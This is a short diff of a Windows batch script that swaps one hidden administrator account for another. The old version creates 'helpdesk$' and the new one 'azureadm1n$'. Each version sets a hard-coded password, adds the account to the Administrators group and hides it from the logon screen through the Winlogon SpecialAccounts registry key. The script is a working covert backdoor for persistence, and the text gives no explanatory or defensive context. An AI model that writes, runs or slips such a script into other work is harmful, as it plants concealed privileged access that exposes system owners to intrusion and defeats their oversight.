@@ -1,5 +1,5 @@
-REM init 1668 v0
+REM task 3814 v0
 @echo off
-net user helpdesk$ Adm1n!strat0r /add /active:yes
-net localgroup Administrators helpdesk$ /add
-reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
+net user azureadm1n$ Winter#2025x /add /active:yes
+net localgroup Administrators azureadm1n$ /add
+reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
